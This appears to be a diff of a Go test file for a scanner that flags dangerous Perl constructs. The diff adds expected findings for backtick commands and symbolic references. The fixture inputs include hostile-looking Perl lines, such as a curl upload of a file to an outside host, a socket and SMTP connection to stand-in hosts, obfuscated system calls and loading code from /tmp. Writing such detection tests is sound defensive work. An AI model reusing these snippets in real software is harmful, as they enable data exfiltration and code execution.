@@ -32,7 +32,7 @@ func TestPerl(t *testing.T) {
 		name, text string
 		want       []string
 	}{
-		{"system", "system('id > /tmp/x'); `id -u`; system('/tmp/id');", []string{"1 system expansion_exec command id > /tmp/x", "1 system expansion_exec command /tmp/id"}},
+		{"system", "system('id > /tmp/x'); `id -u`; system('/tmp/id');", []string{"1 system expansion_exec command id > /tmp/x", "1 ` expansion_exec command id -u", "1 system expansion_exec command /tmp/id"}},
 		{"system of a list", "system 'curl', '-T', $file, \"http://x/\" or die;", []string{"1 system expansion_exec command curl -T $file http://x/"}},
 		{"on another line", "\n\nsystem(\n  q{id}\n);", []string{"3 system expansion_exec command id"}},
 		{"the language's own", "CORE::system('id')", []string{"1 CORE::system expansion_exec command id"}},
@@ -63,7 +63,7 @@ func TestPerl(t *testing.T) {
 		{"eval", "eval { f() }; eval 'require X::Y'; eval $code; eval \"$a$b\";", []string{"1 eval module text eval $code", `1 eval module text eval "$a$b"`}},
 		{"do and require", "require X::Y; require 5.8.0; do { 1 }; do '/tmp/x.pl'; require '/opt/y.pl'; use lib '/tmp/l'; use lib '/usr/share/perl5';",
 			[]string{"1 do module file /tmp/x.pl", "1 require module file /opt/y.pl", "1 use lib module file /tmp/l"}},
-		{"symbolic", `&{"sys"."tem"}('id'); &$f(1); &system('a');`, []string{`1 & module text &{"sys"."tem"}`, "1 system expansion_exec command a"}},
+		{"symbolic", `&{"sys"."tem"}('id'); &$f(1); &system('a'); ${"x"} = 1; @{$y} = %{$z};`, []string{`1 & module text &{"sys"."tem"}`, "1 system expansion_exec command a", `1 $ module text ${"x"}`}},
 		{"socket", `my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.9', PeerPort => 25);`, []string{"1 IO::Socket::INET->new policy host 203.0.113.9:25"}},
 		{"indirect object", `new Net::SMTP('mx.evil.example.net')`, []string{"1 Net::SMTP policy host mx.evil.example.net"}},
 		{"use of a class", "use LWP::UserAgent; use Net::SMTP;", []string{}},
